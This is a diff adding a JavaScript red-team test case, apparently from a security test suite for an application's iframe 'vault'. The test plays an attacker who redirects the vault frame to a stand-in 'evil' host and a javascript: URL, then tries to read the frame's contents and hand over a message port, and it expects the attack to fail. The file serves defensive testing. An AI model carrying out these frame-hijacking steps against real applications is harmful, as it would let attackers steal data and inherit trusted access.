@@ -1,0 +1,27 @@
+// A real attacker: sends the vault's frame to a page of theirs after it has been let in, so that the page there
+// inherits its place in the application's trust.
+export default {
+  row: "frames",
+  expected: [null, "loses"],
+  after: async ({ evil, own }) => {
+    const { redteam, app } = globalThis;
+    const [frame] = document.querySelectorAll("iframe");
+    for (const src of [
+      `${evil}/vault`,
+      "javascript:parent.postMessage('strongroom:hello','*')",
+      `${own}/`,
+      "about:blank",
+    ]) {
+      frame.src = src;
+      await new Promise((resolve) => setTimeout(resolve, 400));
+      try {
+        redteam.loot(frame.contentDocument?.documentElement.outerHTML ?? "");
+        frame.contentWindow.postMessage("strongroom:port", "*", [new MessageChannel().port2]);
+      } catch (error) {
+        redteam.loot(error.name);
+      }
+    }
+    await app.call("/v1/me").catch(String);
+    return frame.src;
+  },
+};
